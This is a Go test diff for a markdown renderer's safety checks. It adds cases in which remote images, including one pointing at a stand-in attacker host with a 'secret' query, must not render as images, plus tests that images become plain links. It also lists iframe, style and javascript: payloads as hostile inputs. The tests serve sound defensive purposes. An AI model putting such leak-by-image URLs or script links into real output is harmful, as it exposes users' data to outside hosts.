@@ -21,6 +21,10 @@ func TestRenderMarkdownIsSafe(t *testing.T) {
 		{"iframe", "<iframe src=\"https://evil.example\"></iframe>", []string{"<iframe"}},
 		{"style", "<style>body{display:none}</style>", []string{"<style", "display:none"}},
 		{"autolink", "<javascript:alert(1)>", []string{"href=\"javascript"}},
+		{"remote image", "![chart](https://evil.example/leak?q=secret)", []string{"<img"}},
+		{"image by reference", "![c][r]\n\n[r]: https://evil.example/x.png", []string{"<img"}},
+		{"image in a link", "[![c](https://evil.example/x.png)](https://a.example)",
+			[]string{"<img"}},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			got := string(RenderMarkdown(tc.md))
@@ -30,6 +34,27 @@ func TestRenderMarkdownIsSafe(t *testing.T) {
 				}
 			}
 		})
+	}
+}
+
+// TestImagesBecomeLinks: an image in an answer is shown as a link to it,
+// named by its description, so nothing loads unless the learner follows it.
+func TestImagesBecomeLinks(t *testing.T) {
+	got := string(RenderMarkdown("See ![the *loss* curve](https://example.org/c.png \"Loss\")."))
+	for _, want := range []string{`href="https://example.org/c.png"`, `title="Loss"`,
+		"the <em>loss</em> curve</a>"} {
+		if !strings.Contains(got, want) {
+			t.Errorf("rendered %q lacks %q", got, want)
+		}
+	}
+	if got := string(RenderMarkdown("![](https://example.org/c.png)")); !strings.Contains(got,
+		">image</a>") {
+		t.Errorf("an image without a description renders as %q", got)
+	}
+	got = string(RenderMarkdown("[![the badge](https://example.org/b.png)](https://a.example)"))
+	if want := `>the badge</a>`; !strings.Contains(got, want) ||
+		strings.Count(got, "<a ") != 1 {
+		t.Errorf("an image in a link renders as %q; want one link ending %q", got, want)
 	}
 }
 
